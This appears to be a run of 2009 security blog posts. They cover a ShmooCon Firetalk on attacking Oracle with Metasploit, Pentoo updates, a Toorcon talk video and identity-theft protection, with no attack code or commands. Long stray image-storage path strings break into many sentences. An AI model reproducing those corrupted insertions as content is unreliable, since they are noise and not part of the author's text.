Did lots of chatting with old friends andmet some new ones which is always good. Its always nice to turn names into faces.

ShmooCon Firetalk on Attacking Oracle with the Metasploit Framework went pretty good, its hard to look at everyone when you are in a circle and there was no mic so I pretty much had no voice by the end of it but I think it went pretty good and I got some good feedback and questions from some people in the audience after. The demo video is posted.

Jack Daniel talked about FOI, Failure On Investment as the only measure people are using to actually measure anything security related, which is true but is also why most senior security professionals in the US make 6 figures, you get paid enough to educate and push through those types of issues.

I didnt catch the name for the guy after Jack but he talked about how powerpoint has removed the ability for people to tell a story and other standard tufte quotes. I've had similar discussions with Michael from Security Catalyst. Again I don't disagree but there are times for powerpoint and if powerpoint rules are applied a presentation can be tolerable. The common counter for powerpoint is to just handout the slides with notes or whatever. That works great for a presentation to 10 people at work but certainly doesn't scale to a security conference. I likeslides for people that do talks at security conferences that actually have content in the slides. Slides that consist of pictures of a lock, turtle, toilet, cigarette, and a trash can probably make/made perfect sense for the people who were actually sitting in the crowd but if all I get is the slides later it doesn't mean crap. I dont see how I could have pulled off my talk without powerpoint, its hard to talk about code or see the output from metasploit withoutactually showing it. But comments always welcome.

Ok, that is all for now...trying to get g0ne up and moving from his house so we can head back into D.C. for the talks today.

Attacking Oracle with Metasploit ShmooCon Firetalk Demo

Here is the video from my Attacking Oracle with the Metasploit Framework ShmooCon Firetalk.

Attacking Oracle with the Metasploit Framework Shmoocon Firetalk Demo Video fromcarnal0wnage on Vimeo.

Wednesday, February 4, 2009

Pentoo Updates

Blah blah BT4 blah blah your mom goes to college....on other sweet distro fronts some updates to Pentoo have arrived

You can read about them here:

support for the GPU cracking is very cool. I'll ask grimmlin if I can post the link for the current alpha ISO for people to play with and the rumor is a beta is coming soon!


ShmooCon Time!

ShmooCon is almost here and I'm exited to see old friends and meet/make new ones.

I'm currently scheduled to do a "Fire Talk" sometime between 2100-2200 on Friday nite. I'll be talking for a few minutes on "Attacking Oracle with the Metasploit Framework" and I have a video demo to go with it. Hopefully it will wet the appetite to download the mixin and play/test with the code and make suggestions on features and functionality.

More info on the Fire Talks and other podcasting type stuff here:

I will of course be blogging and tweeting throughout the con.

See everyone this weekend!

New Shool Information Gathering Toorcon X Edition Video

I ripped the DVD from my talk at Toorcon X on New School Information Gathering.

Should be embedded below.

Toorcon X Gates: NewSchool Information Gathering from carnal0wnage on Vimeo.

Sorry I dont have other videos and dont know when/if they will ever be released.

Tuesday, February 3, 2009

Identity Theft Protection Racket

Really good post on philosecurity on Identity Theft and the Protection Racket the Credit Card companies are running.I tend to agree, if the credit card companies were really losing money everyone would have credit alerts and locks for free but right now, like data breaches, its really the user's problems and not the credit card companies or the people that lost the data.

Of real interest is that it mentions LifeLock got suedbecause it was issuing credit alerts on behalf of its customers.

"Last year Experian sued identity theft protection firm, LifeLock, for activating fraud alerts on behalf of hundreds of thousands of clients. Experian “claimed that alerts should be entered only when people have already been victimized by identity theft or have legitimate reasons to believe that they are at imminentrisk.(Network World, 2008.) I’ve heardthat “identity theft occurs every 79 seconds.” Does that count?"